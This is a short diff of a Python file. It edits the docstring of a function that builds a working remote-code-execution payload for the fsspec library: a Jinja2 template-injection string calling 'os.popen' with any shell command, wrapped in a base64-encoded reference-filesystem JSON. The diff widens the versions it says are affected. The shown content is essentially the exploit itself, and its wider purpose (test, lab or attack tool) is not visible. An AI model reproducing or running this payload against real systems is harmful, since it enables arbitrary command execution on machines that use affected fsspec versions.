@@ -40,7 +40,7 @@ def row(video: str) -> str:
 
 
 def running(command: str) -> str:
-    """An address at whose mention old versions of fsspec (2024.2 to 2025.10) run a shell command."""
+    """An address at whose mention old versions of fsspec (to 2026.4) run a shell command."""
     template = "{{ cycler.__init__.__globals__.os.popen('COMMAND').read() }}".replace("COMMAND", command)
     files = {"version": 1, "refs": {}, "gen": [{"key": template, "url": "x", "dimensions": {"i": [1]}}]}
     content = base64.b64encode(json.dumps(files).encode()).decode()
